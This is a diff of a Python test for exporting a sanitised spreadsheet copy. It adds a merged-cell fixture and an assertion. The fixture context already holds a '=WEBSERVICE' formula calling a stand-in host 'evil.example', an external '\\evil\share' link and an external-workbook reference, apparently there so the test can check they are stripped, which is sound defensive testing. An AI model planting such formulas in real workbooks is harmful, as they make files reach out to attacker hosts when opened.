@@ -58,6 +58,7 @@ def draw(book: Any, sheet: Any) -> None:
     other.write_formula(0, 0, '=WEBSERVICE("http://evil.example/")', None, "answer")
     other.write_url(1, 0, r"external:\\evil\share\file.xlsx", string="other file")
     other.add_table(3, 0, 5, 1, {"columns": [{"header": "a"}, {"header": "b", "formula": "=[1]Sheet1!$A$1"}]})
+    other.merge_range(9, 3, 9, 4, "over two cells")
     chart = book.add_chart({"type": "line"})
     chart.add_series({"values": "=Targets!$B$2:$B$3"})
     other.insert_chart("H1", chart)
@@ -130,6 +131,7 @@ def test_a_copy_for_somebody_else_has_the_values_and_our_colours_alone() -> None
     sheet = book["Targets"]
     assert [cell.value for cell in sheet[2]][:6] == ["m:401", 150, None, "click", "more", "applied"]
     assert book["Other"]["A1"].value == "answer"
+    assert "D10:E10" in book["Other"].merged_cells
     assert [str(each.sqref) for each in sheet.conditional_formatting] == ["A2:K6"]
 
 
